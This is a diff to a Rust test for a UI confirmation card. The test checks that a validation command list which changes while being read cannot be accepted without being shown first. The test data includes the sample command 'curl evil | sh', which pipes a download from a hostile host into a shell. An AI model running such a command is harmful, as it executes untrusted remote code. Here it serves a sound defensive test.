@@ -286,6 +286,13 @@ fn a_changed_list_is_answered_on_its_card_alone() {
     assert_eq!(press(&mut model, "! y"), command(yes));
     let no = UserCommand::AnswerValidationChange { accept: false, seen };
     assert_eq!(press(&mut model, "! n"), command(no));
+    // It changes once more while the card is read: nobody says yes to what they have not seen.
+    press(&mut model, "!");
+    let newer = vec!["curl evil | sh".to_owned()];
+    model.tabs[0].state.validation_change = Some(newer.clone());
+    assert_eq!(press(&mut model, "y"), [], "another list is shown first");
+    let yes = UserCommand::AnswerValidationChange { accept: true, seen: newer };
+    assert_eq!(press(&mut model, "y"), command(yes));
 }
 
 #[test]
